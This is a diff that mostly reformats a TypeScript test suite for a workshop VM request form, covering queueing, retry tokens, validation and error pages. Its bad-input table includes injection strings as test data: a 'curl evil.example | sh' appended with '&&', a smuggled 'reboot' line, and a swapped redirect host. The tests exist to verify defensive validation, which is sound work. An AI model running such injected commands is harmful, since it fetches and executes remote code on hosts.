@@ -50,7 +50,11 @@ describe('the participant form over HTTP', () => {
     expect(await env.db.dumpVms()).toEqual([]);
     expect((await env.db.pool.query('SELECT email FROM waiting_line')).rows).toEqual([]);
 
-    const page = await fetch(`${env.url}/api/request_vm`, { method: 'POST', body: new URLSearchParams({ email: 'late@example.com', crd_command: crdCommand() }), redirect: 'manual' });
+    const page = await fetch(`${env.url}/api/request_vm`, {
+      method: 'POST',
+      body: new URLSearchParams({ email: 'late@example.com', crd_command: crdCommand() }),
+      redirect: 'manual',
+    });
     expect(page.status).toBe(303);
     expect(page.headers.get('location')).toMatch(/^\/line\/[0-9a-f-]{36}$/);
     expect((await env.db.pool.query('SELECT email FROM waiting_line')).rows).toEqual([{ email: 'late@example.com' }]);
@@ -79,7 +83,9 @@ describe('the participant form over HTTP', () => {
     expect(await odd.text()).not.toMatch(/You already had this VM|trying again with the new command/);
 
     const assignmentId = location.split('/').pop();
-    await env.db.pool.query(`UPDATE vms SET state = 'error', error = 'start-host exited with code 1: invalid_grant' WHERE hostname = 'form-vm-4'`);
+    await env.db.pool.query(
+      `UPDATE vms SET state = 'error', error = 'start-host exited with code 1: invalid_grant' WHERE hostname = 'form-vm-4'`,
+    );
     const status = await (await fetch(`${env.url}/api/assignment/${assignmentId}`)).json();
     expect(status).toEqual({
       hostname: 'form-vm-4',
@@ -99,7 +105,9 @@ describe('the participant form over HTTP', () => {
     expect(failedPage).not.toContain('Wait until this page says');
 
     // Moved here by the instructor: nothing of theirs failed, the VM waits for their command.
-    await env.db.pool.query(`UPDATE vms SET moved_from = 'form-vm-9', error = 'Your previous VM stopped working and the instructor moved you to this one.' WHERE hostname = 'form-vm-4'`);
+    await env.db.pool.query(
+      `UPDATE vms SET moved_from = 'form-vm-9', error = 'Your previous VM stopped working and the instructor moved you to this one.' WHERE hostname = 'form-vm-4'`,
+    );
     const moved = (await (await fetch(`${env.url}/api/assignment/${assignmentId}`)).json()) as { message: string };
     expect(moved.message).toBe('form-vm-4 is waiting for a new command from you.');
     expect(await (await fetch(`${env.url}${location}`)).text()).toContain('>form-vm-4 is waiting for a new command from you.</p>');
@@ -108,7 +116,12 @@ describe('the participant form over HTTP', () => {
   it('lets only the browser that submitted the command retry after a failed setup', async () => {
     await recordPoll(env.db.sql, 'form-vm-5', 60);
     const post = (headers: Record<string, string> = {}) =>
-      fetch(`${env.url}/api/request_vm`, { method: 'POST', headers, body: new URLSearchParams({ email: 'cookie@example.com', crd_command: crdCommand() }), redirect: 'manual' });
+      fetch(`${env.url}/api/request_vm`, {
+        method: 'POST',
+        headers,
+        body: new URLSearchParams({ email: 'cookie@example.com', crd_command: crdCommand() }),
+        redirect: 'manual',
+      });
     const first = await post();
     const cookie = /lablink_retry=([\w-]+);.*HttpOnly/.exec(first.headers.get('set-cookie') ?? '')?.[0].split(';')[0];
     expect(cookie).toMatch(/^lablink_retry=[\w-]{32}$/);
@@ -128,8 +141,15 @@ describe('the participant form over HTTP', () => {
   it('lets a JSON client retry a failed setup with the retry_token field its first answer gave, and no one else', async () => {
     await recordPoll(env.db.sql, 'form-vm-6', 60);
     const post = (fields: Record<string, string>) =>
-      fetch(`${env.url}/api/request_vm`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' }, body: JSON.stringify(fields) });
-    const first = (await (await post({ email: 'api@example.com', crd_command: crdCommand() })).json()) as { pin: string; retryToken: string };
+      fetch(`${env.url}/api/request_vm`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', accept: 'application/json' },
+        body: JSON.stringify(fields),
+      });
+    const first = (await (await post({ email: 'api@example.com', crd_command: crdCommand() })).json()) as {
+      pin: string;
+      retryToken: string;
+    };
     await env.db.pool.query(`UPDATE vms SET state = 'error', error = 'invalid_grant', crd_command = NULL WHERE hostname = 'form-vm-6'`);
 
     const before = await env.db.dumpVms();
@@ -140,7 +160,12 @@ describe('the participant form over HTTP', () => {
     const newCommand = crdCommand();
     const retried = await post({ email: 'api@example.com', crd_command: newCommand, retry_token: first.retryToken });
     expect(retried.status).toBe(200);
-    expect(await retried.json()).toEqual({ hostname: 'form-vm-6', pin: first.pin, status: expect.stringMatching(/^\/api\/assignment\//), retryToken: expect.stringMatching(/^[\w-]{32}$/) });
+    expect(await retried.json()).toEqual({
+      hostname: 'form-vm-6',
+      pin: first.pin,
+      status: expect.stringMatching(/^\/api\/assignment\//),
+      retryToken: expect.stringMatching(/^[\w-]{32}$/),
+    });
     const { rows } = await env.db.pool.query(`SELECT state, error, crd_command FROM vms WHERE hostname = 'form-vm-6'`);
     expect(rows).toEqual([{ state: 'assigned', error: null, crd_command: newCommand }]);
   });
@@ -154,8 +179,20 @@ describe('the participant form over HTTP', () => {
   });
 
   const badInputs: [string, Record<string, string>, RegExp][] = [
-    ['a missing --code', { email: 'a@example.com', crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --redirect-url="https://remotedesktop.google.com/_/oauthredirect"' }, /no --code/],
-    ['a wrong redirect URL', { email: 'a@example.com', crd_command: crdCommand().replace('remotedesktop.google.com', 'remotedesktop.evil.example') }, /redirect-url must be Google's/],
+    [
+      'a missing --code',
+      {
+        email: 'a@example.com',
+        crd_command:
+          'DISPLAY= /opt/google/chrome-remote-desktop/start-host --redirect-url="https://remotedesktop.google.com/_/oauthredirect"',
+      },
+      /no --code/,
+    ],
+    [
+      'a wrong redirect URL',
+      { email: 'a@example.com', crd_command: crdCommand().replace('remotedesktop.google.com', 'remotedesktop.evil.example') },
+      /redirect-url must be Google's/,
+    ],
     ['shell metacharacters', { email: 'a@example.com', crd_command: `${crdCommand()} && curl evil.example | sh` }, /contains "&&"/],
     ['a newline and another command', { email: 'a@example.com', crd_command: `${crdCommand()}\nreboot` }, /contains "reboot"/],
     ['over-long input', { email: 'a@example.com', crd_command: `${crdCommand()}${'x'.repeat(2100)}` }, /longer than 2048/],
@@ -211,17 +248,25 @@ describe('the participant form over HTTP', () => {
   });
 
   it('reports every field’s mistake at once, in JSON and in the page', async () => {
-    const response = await submitForm(env.url, { email: 'sam@gmial.com', crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AanRJrjkg' });
+    const response = await submitForm(env.url, {
+      email: 'sam@gmial.com',
+      crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AanRJrjkg',
+    });
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({
       error: expect.stringMatching(/^Did you mean sam@gmail\.com\?/),
       field: 'email',
-      errors: { email: expect.stringMatching(/^Did you mean/), crd_command: expect.stringMatching(/^The command stops in the middle of the code/) },
+      errors: {
+        email: expect.stringMatching(/^Did you mean/),
+        crd_command: expect.stringMatching(/^The command stops in the middle of the code/),
+      },
       emailSuggestion: 'sam@gmail.com',
     });
     const page = await (await submitFormAsBrowser(env.url, { email: 'sam@gmial.com', crd_command: '' })).page.text();
     expect(page).toContain('<title>Error: Get your workshop VM · LabLink</title>');
-    expect(page).toMatch(/<div class="error-summary" id="error-summary" tabindex="-1" autofocus[^>]*>\s*<h2[^>]*>There are 2 problems<\/h2>/);
+    expect(page).toMatch(
+      /<div class="error-summary" id="error-summary" tabindex="-1" autofocus[^>]*>\s*<h2[^>]*>There are 2 problems<\/h2>/,
+    );
     expect(page).toContain('<input type="checkbox" id="email_confirmed" name="email_confirmed" value="sam@gmial.com">');
   });
 
@@ -234,7 +279,11 @@ describe('the participant form over HTTP', () => {
   });
 
   it('refuses a body that is not a form with 415, and an oversized one with 413', async () => {
-    const plain = await fetch(`${env.url}/api/request_vm`, { method: 'POST', headers: { 'content-type': 'text/plain', accept: 'application/json' }, body: 'email=a@example.com' });
+    const plain = await fetch(`${env.url}/api/request_vm`, {
+      method: 'POST',
+      headers: { 'content-type': 'text/plain', accept: 'application/json' },
+      body: 'email=a@example.com',
+    });
     expect(plain.status).toBe(415);
     const huge = await submitForm(env.url, { email: 'a@example.com', crd_command: 'x'.repeat(20_000) });
     expect(huge.status).toBe(413);
@@ -242,7 +291,8 @@ describe('the participant form over HTTP', () => {
   });
 
   describe('email alone opens nothing', () => {
-    const HELD_ELSEWHERE = 'This email already has a VM, asked for from another browser. Open its page in that browser, or ask your instructor.';
+    const HELD_ELSEWHERE =
+      'This email already has a VM, asked for from another browser. Open its page in that browser, or ask your instructor.';
     beforeEach(async () => {
       await recordPoll(env.db.sql, 'own-vm-1', 600);
       await recordPoll(env.db.sql, 'own-vm-2', 600);
@@ -272,7 +322,9 @@ describe('the participant form over HTTP', () => {
       expect(html).toContain(HELD_ELSEWHERE);
       expect(html).not.toContain(vm.hostname);
       expect(html).not.toContain(vm.pin);
-      expect((await env.db.pool.query(`DELETE FROM email_attempts WHERE email = 'ada@example.com' AND hostname = $1`, [vm.hostname])).rowCount).toBe(2);
+      expect(
+        (await env.db.pool.query(`DELETE FROM email_attempts WHERE email = 'ada@example.com' AND hostname = $1`, [vm.hostname])).rowCount,
+      ).toBe(2);
       expect(await dumpDatabase(env.db.pool)).toBe(before);
     });
 
@@ -303,7 +355,11 @@ describe('the participant form over HTTP', () => {
   });
 
   it('a place in line: an unknown or malformed ticket is 404; a fresh command that is not one, or not a form, is a 400 page; nothing is stored', async () => {
-    const joined = await fetch(`${env.url}/api/request_vm`, { method: 'POST', body: new URLSearchParams({ email: 'queued@example.com', crd_command: crdCommand() }), redirect: 'manual' });
+    const joined = await fetch(`${env.url}/api/request_vm`, {
+      method: 'POST',
+      body: new URLSearchParams({ email: 'queued@example.com', crd_command: crdCommand() }),
+      redirect: 'manual',
+    });
     const place = joined.headers.get('location')!;
     const cookie = joined.headers.get('set-cookie')!.split(';')[0];
     const before = await dumpDatabase(env.db.pool);
@@ -323,7 +379,11 @@ describe('the participant form over HTTP', () => {
     expect(await dumpDatabase(env.db.pool)).toBe(before);
 
     // The same browser, another email: one place per browser, refused with 409, nothing stored.
-    const second = await fetch(`${env.url}/api/request_vm`, { method: 'POST', body: new URLSearchParams({ email: 'other@example.com', crd_command: crdCommand() }), headers: { cookie } });
+    const second = await fetch(`${env.url}/api/request_vm`, {
+      method: 'POST',
+      body: new URLSearchParams({ email: 'other@example.com', crd_command: crdCommand() }),
+      headers: { cookie },
+    });
     expect(second.status).toBe(409);
     expect(await second.text()).toContain('This browser is already waiting in line for another email');
     expect(await dumpDatabase(env.db.pool)).toBe(before);
